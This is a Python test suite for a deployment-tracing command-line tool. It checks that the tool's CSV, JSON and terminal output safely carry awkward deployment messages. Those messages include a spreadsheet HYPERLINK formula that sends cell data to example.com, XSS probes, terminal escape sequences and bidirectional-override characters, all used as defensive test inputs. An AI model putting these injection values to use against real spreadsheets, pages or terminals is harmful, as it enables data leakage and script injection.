#!/usr/bin/env python3
"""Tests of the program from outside: what it writes is read back by Python's own csv and json.

    SHIPTRACE=target/debug/shiptrace python3 tests/outside.py
"""

import csv
import datetime
import io
import json
import os
import pty
import subprocess
import sys
import tempfile
import time
import unittest
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BINARY = Path(os.environ.get("SHIPTRACE", ROOT / "target" / "debug" / "shiptrace")).resolve()

FORMULA = '=HYPERLINK("https://example.com/?"&A1,"Click")'
AWKWARD = [
    "plain",
    "two lines\nand a comma, a \"quote\" and a 'quote'",
    "a\ttab, a | pipe, a `backtick` and a back\\slash",
    "<script>alert(1)</script> & <img src=x onerror=alert(1)>",
    "# heading\n* item\n[link](https://example.com) **bold**",
    "\x1b[31mred\x1b[0m and \x1b]0;title\x07",
    "right \u202eto left\u202c, \u2066isolated\u2069",
    "Исправить 通知 إصلاح 🎣 e\u0301",
    FORMULA,
]


# The settings of whoever runs the tests stay out of them.
ENVIRONMENT = {name: value for name, value in os.environ.items() if not name.startswith("SHIPTRACE_")}


def run(*arguments, stdin=None):
    return subprocess.run([BINARY, *arguments], cwd=ROOT, env=ENVIRONMENT, input=stdin, capture_output=True,
                          encoding="utf-8")


class Outside(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.deploys = Path(folder.name) / "deploys.csv"
        with open(self.deploys, "w", encoding="utf-8", newline="") as file:
            out = csv.writer(file)
            out.writerow(("id", "deployed_at", "app", "message"))
            for i, message in enumerate(AWKWARD):
                out.writerow((f"d{i}", f"2023-11-23T{i:02}:30:00Z", "web", message))

    def written(self, *arguments):
        """What a command about the awkward deployments writes; it must succeed."""
        done = run(*arguments, "--deploys", str(self.deploys))
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def test_json_of_deploys_gives_back_every_message(self):
        read = json.loads(self.written("deploys", "--format", "json"))
        self.assertEqual(read["schema"], "shiptrace/deploys/1")
        self.assertEqual([d["message"] for d in read["deploys"]], AWKWARD)

    def test_raw_csv_of_deploys_gives_back_every_message(self):
        read = csv.DictReader(io.StringIO(self.written("deploys", "--format", "csv", "--raw"), newline=""))
        self.assertEqual([row["message"] for row in read], AWKWARD)

    def test_csv_of_deploys_defuses_formulas_and_nothing_else(self):
        read = csv.DictReader(io.StringIO(self.written("deploys", "--format", "csv"), newline=""))
        got = dict(zip(AWKWARD, (row["message"] for row in read)))
        self.assertNotIn(got.pop(FORMULA)[0], "=+-@\t\r")
        self.assertEqual(list(got), list(got.values()))

    def test_json_and_csv_of_an_answer_agree_and_give_back_every_message(self):
        why = ("why", "confirmed_interactions", "--on", "2023-11-24", "--window", "3d")
        answer = json.loads(self.written(*why, "--format", "json"))
        rows = list(csv.DictReader(io.StringIO(self.written(*why, "--format", "csv", "--raw"), newline="")))
        suspects = [s["deploy"]["message"] for s in answer["suspects"]]
        self.assertEqual(sorted(suspects), sorted(AWKWARD))
        self.assertEqual([m for m in (row["message"] for row in rows) if m in AWKWARD], suspects)

    def test_nothing_that_a_terminal_would_obey_reaches_a_table(self):
        table = self.written("deploys", "--format", "table", "--color", "never")
        for kept in ("plain", "two lines", "red", "通知", "HYPERLINK"):
            self.assertIn(kept, table)
        for forbidden in ("\x1b", "\x07", "\t", "\u202e", "\u2066"):
            self.assertNotIn(forbidden, table)

    def test_probabilities_of_the_sample_data_add_up_and_the_culprit_is_first(self):
        done = run("why", "confirmed_interactions", "--on", "2023-11-24", "--format", "json")
        self.assertEqual(done.returncode, 0, done.stderr)
        answer = json.loads(done.stdout)
        total = sum(s["probability"] for s in answer["suspects"]) + answer["none_of_these"]
        self.assertAlmostEqual(total, 1, places=9)
        self.assertAlmostEqual(answer["none_of_these"], sum(answer["none"].values()), places=9)
        self.assertEqual(answer["suspects"][0]["deploy"]["message"].split("\n")[0],
                         "Require a confirmed domain before an interaction counts")
        self.assertEqual(sorted(e["reason"] for e in answer["excluded"] if e["deploy"]["app"] == "domains"),
                         ["environment", "failed"])

    def test_a_series_on_standard_input_is_read(self):
        series = "".join(f"2023-11-{d:02},{100 + d % 3}\n" for d in range(1, 31))
        done = run("why", "value", "--on", "2023-11-20", "--metrics", "-", "--format", "json",
                   stdin="timestamp,value\n" + series)
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual(json.loads(done.stdout)["series"]["buckets"], 30)

    def test_a_long_scan_shows_a_bar_on_a_terminal_only_and_clears_it(self):
        metrics = self.deploys.with_name("metrics.csv")
        scan = (BINARY, "scan", "--no-config", "--metrics", str(metrics), "--format", "json")
        count, seconds = 300, 0
        while seconds < 2:  # however fast the machine is
            count *= 3
            rows = ["timestamp," + ",".join(f"m{m}" for m in range(count))]
            for day in range(60):
                date = datetime.date(2023, 1, 1) + datetime.timedelta(day)
                values = (str(1000 + (m * 7919 + day * day * 104729) % 97) for m in range(count))
                rows.append(f"{date}," + ",".join(values))
            metrics.write_text("\n".join(rows) + "\n", encoding="utf-8")
            started = time.monotonic()
            piped = subprocess.run(scan, cwd=ROOT, env=ENVIRONMENT, capture_output=True, check=True)
            seconds = time.monotonic() - started
        self.assertEqual(piped.stderr, b"")

        def on_a_terminal(*options):
            """What is drawn on a terminal that is standard error alone."""
            ours, theirs = pty.openpty()
            drawn = bytearray()
            with subprocess.Popen([*scan, *options], cwd=ROOT, env={**ENVIRONMENT, "TERM": "xterm"}, stderr=theirs,
                                  stdout=subprocess.DEVNULL) as process:
                os.close(theirs)
                while True:
                    try:
                        drawn += os.read(ours, 4096)
                    except OSError:  # the other end is closed
                        break
            os.close(ours)
            self.assertEqual(process.returncode, 0)
            return drawn.decode("utf-8")

        drawn = on_a_terminal()
        self.assertRegex(drawn, rf"█+.* of {count} metrics")
        self.assertTrue(drawn.endswith("\r\x1b[2K"), repr(drawn[-80:]))
        self.assertEqual(on_a_terminal("--quiet"), "")

    def test_a_reader_that_leaves_early_is_no_error(self):
        command = ("deploys", "--format", "csv")
        self.assertIn("deployed_at", run(*command).stdout)
        with subprocess.Popen([BINARY, *command], cwd=ROOT, env=ENVIRONMENT, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE) as process:
            process.stdout.close()
            errors = process.stderr.read()
            self.assertEqual((process.wait(), errors), (0, b""))


if __name__ == "__main__":
    if not BINARY.is_file():
        sys.exit(f"there is no program at {BINARY}: run `cargo build`, or say with SHIPTRACE where it is")
    unittest.main(verbosity=2)
